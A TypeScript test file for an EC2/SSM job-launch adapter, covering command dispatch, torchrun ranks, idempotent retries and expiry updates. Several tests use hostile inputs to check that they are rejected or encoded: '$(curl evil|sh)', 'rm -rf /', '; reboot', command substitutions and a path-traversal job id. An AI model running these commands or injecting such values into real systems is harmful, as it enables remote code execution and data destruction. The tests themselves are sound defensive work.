import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DescribeInstancesCommand } from '@aws-sdk/client-ec2';
import {
  GetCommandInvocationCommand,
  ListCommandsCommand,
  SSMServiceException,
  SendCommandCommand,
} from '@aws-sdk/client-ssm';
import { Ec2SsmCompute } from '../../lambdas/adapters/ec2-ssm-compute.js';
import { deadlineScript, instanceScript, type DockerRunOptions } from '../../lambdas/core/container-command.js';
import { LaunchFailed, ValidationError } from '../../lambdas/core/errors.js';
import { awsError } from '../support/aws-errors.js';
import { PROPS, ec2Mock, job, spec, ssmMock, useEc2SsmMocks } from '../support/ec2-ssm.js';

useEc2SsmMocks();

describe('Ec2SsmCompute.start', () => {
  const single = job({ instanceIds: ['i-1'] });
  const multi = job({ instanceIds: ['i-1', 'i-2', 'i-3'], nodeCount: 3 });
  const listInput = (InstanceId: string, document = 'AWS-RunShellScript') => ({
    InstanceId,
    Filters: [{ key: 'DocumentName', value: document }],
    MaxResults: 50,
    NextToken: undefined,
  });
  const SCRIPT_OPTIONS: DockerRunOptions = {
    memory: '14g',
    scratchDir: '/var/lib/flare/scratch',
    // The job's $FLARE_OUTPUT_DIR, mounted at /outputs.
    outputDir: '/var/lib/flare/outputs/job-7',
  };
  /** Ranks reach each other over the host network. */
  const MULTI_OPTIONS: DockerRunOptions = { ...SCRIPT_OPTIONS, hostNetwork: true };
  const torchrun = (rank: number) => ({
    NODE_RANK: String(rank),
    WORLD_SIZE: '3',
    MASTER_ADDR: '10.0.1.17',
    MASTER_PORT: '29500',
  });
  const sendInput = (instanceId: string, script: string) => ({
    DocumentName: 'AWS-RunShellScript',
    InstanceIds: [instanceId],
    Comment: 'flare:job=job-7',
    // Delivery bounded by the agent's timeout (600 s by default), not SSM's hour: a command never delivered fails the job soon.
    TimeoutSeconds: 600,
    Parameters: { commands: [script], executionTimeout: ['172800'] },
  });

  function masterDescribed() {
    ec2Mock
      .on(DescribeInstancesCommand, { InstanceIds: ['i-1'] })
      .resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-1', PrivateIpAddress: '10.0.1.17' }] }] });
  }

  test('single node: sends the instance script with the job in the comment and the longest execution timeout', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'c-1' } });

    await new Ec2SsmCompute({ ...PROPS, logGroupName: '/flare/jobs' }).start(single, spec());

    assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, listInput('i-1'));
    const sends = ssmMock.commandCalls(SendCommandCommand);
    assert.equal(sends.length, 1);
    const expectedScript = instanceScript(spec(), {
      ...SCRIPT_OPTIONS,
      logDriver: 'awslogs',
      logOptions: { 'awslogs-group': '/flare/jobs', 'awslogs-stream': 'job-7' },
    });
    assert.deepEqual(sends[0].args[0].input, {
      ...sendInput('i-1', expectedScript),
      CloudWatchOutputConfig: { CloudWatchLogGroupName: '/flare/jobs', CloudWatchOutputEnabled: true },
    });
    assert.ok(!expectedScript.includes('$(id)'), 'job text travels encoded');
    assert.ok(
      expectedScript.includes('echo 2030-01-01T01:00:00.000Z > /var/lib/flare/expires-at.job-7.tmp'),
      'the instance learns the job expiry',
    );
    assert.equal(ec2Mock.commandCalls(DescribeInstancesCommand).length, 0, 'no rendezvous address for one node');
  });

  test("a template that allows root runs the image's own user; otherwise the unprivileged default", async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});
    await new Ec2SsmCompute({ ...PROPS, logGroupName: undefined }).start(
      { ...single, allowRoot: true },
      spec({ allowRoot: true }),
    );
    await new Ec2SsmCompute({ ...PROPS, logGroupName: undefined }).start(single, spec());
    const [root, plain] = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input.Parameters!.commands![0]);
    assert.equal(root, instanceScript(spec({ allowRoot: true }), { ...SCRIPT_OPTIONS, allowRoot: true }));
    assert.equal(plain, instanceScript(spec(), SCRIPT_OPTIONS));
    assert.notEqual(root, plain);
  });

  test('without a log group sends no CloudWatch config and leaves the log driver to docker', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});

    await new Ec2SsmCompute({
      ...PROPS,
      agentDocument: 'Flare-RunJob',
      dockerOptions: { memory: '99g', shmSize: '8g', scratchDir: '/mnt/nvme/scratch' },
    }).start(single, spec());

    assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, listInput('i-1', 'Flare-RunJob'));
    assert.deepEqual(ssmMock.commandCalls(SendCommandCommand)[0].args[0].input, {
      ...sendInput(
        'i-1',
        instanceScript(spec(), {
          memory: '14g',
          shmSize: '8g',
          scratchDir: '/mnt/nvme/scratch',
          outputDir: '/var/lib/flare/outputs/job-7',
        }),
      ),
      DocumentName: 'Flare-RunJob',
    });
  });

  test('multi-node: one command per instance, each with its torchrun rank and the first instance as rendezvous, overriding the job env', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});
    masterDescribed();
    const jobSpec = spec({ env: { EPOCHS: '3', NODE_RANK: '9', MASTER_ADDR: 'evil.example.com' } });

    await new Ec2SsmCompute(PROPS).start(multi, jobSpec);

    assert.deepEqual(
      ssmMock.commandCalls(ListCommandsCommand).map((c) => c.args[0].input),
      [listInput('i-1'), listInput('i-2'), listInput('i-3')],
    );
    assert.deepEqual(
      ec2Mock.commandCalls(DescribeInstancesCommand).map((c) => c.args[0].input),
      [{ InstanceIds: ['i-1'], NextToken: undefined }],
    );
    const sends = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
    assert.deepEqual(
      sends,
      ['i-1', 'i-2', 'i-3'].map((id, rank) =>
        sendInput(id, instanceScript({ ...jobSpec, env: { EPOCHS: '3', ...torchrun(rank) } }, MULTI_OPTIONS)),
      ),
    );
  });

  test('multi-node with another rendezvous port', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});
    masterDescribed();

    await new Ec2SsmCompute({ ...PROPS, masterPort: 23456 }).start(multi, spec());

    const last = ssmMock.commandCalls(SendCommandCommand)[2].args[0].input;
    assert.deepEqual(
      last,
      sendInput(
        'i-3',
        instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(2), MASTER_PORT: '23456' } }), MULTI_OPTIONS),
      ),
    );
  });

  test('a repeated multi-node call resends only to the instances that have no command yet', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock
      .on(ListCommandsCommand, { InstanceId: 'i-1' })
      .resolves({ Commands: [{ CommandId: 'c-1', Comment: 'flare:job=job-7' }] });
    ssmMock
      .on(ListCommandsCommand, { InstanceId: 'i-3' })
      .resolves({ Commands: [{ CommandId: 'c-3', Comment: 'flare:job=job-7' }] });
    ssmMock.on(SendCommandCommand).resolves({});
    masterDescribed();

    await new Ec2SsmCompute(PROPS).start(multi, spec());

    const sends = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
    assert.deepEqual(sends, [
      sendInput('i-2', instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(1) } }), MULTI_OPTIONS)),
    ]);
  });

  test('a repeated call finds its command by comment across pages and sends nothing', async () => {
    ssmMock
      .on(ListCommandsCommand)
      .resolvesOnce({ Commands: [{ CommandId: 'c-0', Comment: 'flare:job=job-70' }], NextToken: 'next' })
      .resolvesOnce({ Commands: [{ CommandId: 'c-1', Comment: 'flare:job=job-7', Status: 'InProgress' }] });

    await new Ec2SsmCompute(PROPS).start(single, spec());

    assert.deepEqual(
      ssmMock.commandCalls(ListCommandsCommand).map((c) => c.args[0].input),
      [listInput('i-1'), { ...listInput('i-1'), NextToken: 'next' }],
    );
    assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
  });

  test('a first instance without a private address fails the start before anything is sent', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-1' }] }] });

    await assert.rejects(new Ec2SsmCompute(PROPS).start(multi, spec()), LaunchFailed);
    assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
  });

  test('refuses a spec for another job, a job without instances, and instances that do not match its nodes', async () => {
    await assert.rejects(new Ec2SsmCompute(PROPS).start(single, spec({ jobId: 'job-8' })), ValidationError);
    await assert.rejects(new Ec2SsmCompute(PROPS).start(job(), spec()), LaunchFailed);
    await assert.rejects(
      new Ec2SsmCompute(PROPS).start(job({ instanceIds: ['i-1', 'i-2'], nodeCount: 3 }), spec()),
      LaunchFailed,
    );
    assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
  });

  for (const [what, hostile] of [
    ['a flag as image', { image: '--privileged' }],
    ['an image with a shell command', { image: `alpine;id@sha256:${'a'.repeat(64)}` }],
    ['a reserved env name', { env: { NVIDIA_VISIBLE_DEVICES: 'all' } }],
    ['a shell command as expiry', { expiresAt: '2030-01-01T01:00:00.000Z; reboot' }],
    ['a newline in the expiry', { expiresAt: '2030-01-01T01:00:00.000Z\nreboot' }],
  ] as const) {
    test(`refuses ${what} on every node before anything is sent`, async () => {
      ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
      masterDescribed();
      await assert.rejects(new Ec2SsmCompute(PROPS).start(multi, spec(hostile)), ValidationError);
      await assert.rejects(new Ec2SsmCompute(PROPS).start(single, spec(hostile)), ValidationError);
      assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
    });
  }

  test('hostile command and env text reaches no node in the clear', async () => {
    ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
    ssmMock.on(SendCommandCommand).resolves({});
    masterDescribed();

    await new Ec2SsmCompute(PROPS).start(
      multi,
      spec({ command: ['sh', '-c', '$(curl evil|sh)', '--privileged'], env: { X: '`reboot`\nrm -rf /' } }),
    );

    for (const call of ssmMock.commandCalls(SendCommandCommand)) {
      const [script] = call.args[0].input.Parameters!.commands!;
      for (const text of ['curl evil', 'reboot', 'rm -rf', 'privileged'])
        assert.ok(!script.includes(text), `${text} in script`);
    }
  });
});

describe('Ec2SsmCompute.updateExpiry', () => {
  const NEW_EXPIRY = '2030-01-01T03:30:00.000Z';

  test('sends one deadline rewrite to every instance of the job, under its own comment and a short timeout', async () => {
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'c-9' } });

    await new Ec2SsmCompute({ ...PROPS, logGroupName: '/flare/jobs' }).updateExpiry(
      job({ state: 'RUNNING', instanceIds: ['i-1', 'i-2'], nodeCount: 2 }),
      NEW_EXPIRY,
    );

    const sends = ssmMock.commandCalls(SendCommandCommand);
    assert.equal(sends.length, 1);
    assert.deepEqual(sends[0].args[0].input, {
      DocumentName: 'AWS-RunShellScript',
      InstanceIds: ['i-1', 'i-2'],
      Comment: 'flare:deadline=job-7',
      Parameters: { commands: [deadlineScript('job-7', NEW_EXPIRY)], executionTimeout: ['60'] },
    });
    const [script] = sends[0].args[0].input.Parameters!.commands!;
    assert.ok(script.includes(`echo ${NEW_EXPIRY} > /var/lib/flare/expires-at.job-7.tmp`), script);
    assert.equal(
      ssmMock.commandCalls(ListCommandsCommand).length,
      0,
      'no lookup: rewriting the deadline twice is harmless',
    );
  });

  test('uses the configured agent document', async () => {
    ssmMock.on(SendCommandCommand).resolves({});
    await new Ec2SsmCompute({ ...PROPS, agentDocument: 'Flare-RunShellScript' }).updateExpiry(
      job({ instanceIds: ['i-1'] }),
      NEW_EXPIRY,
    );
    assert.equal(ssmMock.commandCalls(SendCommandCommand)[0].args[0].input.DocumentName, 'Flare-RunShellScript');
  });

  test("its command is not taken for the job's container command by the compute events", async () => {
    ssmMock.on(SendCommandCommand).resolves({});
    await new Ec2SsmCompute(PROPS).updateExpiry(job({ instanceIds: ['i-1'] }), NEW_EXPIRY);
    const Comment = ssmMock.commandCalls(SendCommandCommand)[0].args[0].input.Comment;
    ssmMock.on(GetCommandInvocationCommand).resolves({ Comment, Status: 'Success', ResponseCode: 0 });
    assert.equal(
      await new Ec2SsmCompute(PROPS).commandOutcome('c-9', 'i-1'),
      undefined,
      'a finished deadline rewrite is no exit 0 of the job',
    );
  });

  for (const [what, id, expiresAt] of [
    ['a shell command in the expiry', 'job-7', `${NEW_EXPIRY}; reboot`],
    ['a newline in the expiry', 'job-7', `${NEW_EXPIRY}\nreboot`],
    ['a command substitution as expiry', 'job-7', '$(reboot)'],
    ['an expiry that is not UTC ISO 8601', 'job-7', '2030-01-01 03:30'],
    ['a shell command in the job id', 'job-7;reboot', NEW_EXPIRY],
    ['a command substitution as job id', '$(reboot)', NEW_EXPIRY],
    ['a path in the job id', '../../etc/cron.d/x', NEW_EXPIRY],
  ] as const) {
    test(`refuses ${what}: nothing is sent`, async () => {
      ssmMock.on(SendCommandCommand).resolves({});
      await assert.rejects(
        new Ec2SsmCompute(PROPS).updateExpiry(job({ id, instanceIds: ['i-1'] }), expiresAt),
        ValidationError,
      );
      assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
    });
  }

  test('a job without instances is a launch failure; nothing is sent', async () => {
    await assert.rejects(new Ec2SsmCompute(PROPS).updateExpiry(job(), NEW_EXPIRY), LaunchFailed);
    assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
  });

  test('throws what SSM throws, so the workflow retries', async () => {
    const throttled = awsError(SSMServiceException, 'ThrottlingException', { message: 'mocked' });
    ssmMock.on(SendCommandCommand).rejects(throttled);
    await assert.rejects(
      new Ec2SsmCompute(PROPS).updateExpiry(job({ instanceIds: ['i-1'] }), NEW_EXPIRY),
      (error: unknown) => error === throttled,
    );
  });
});
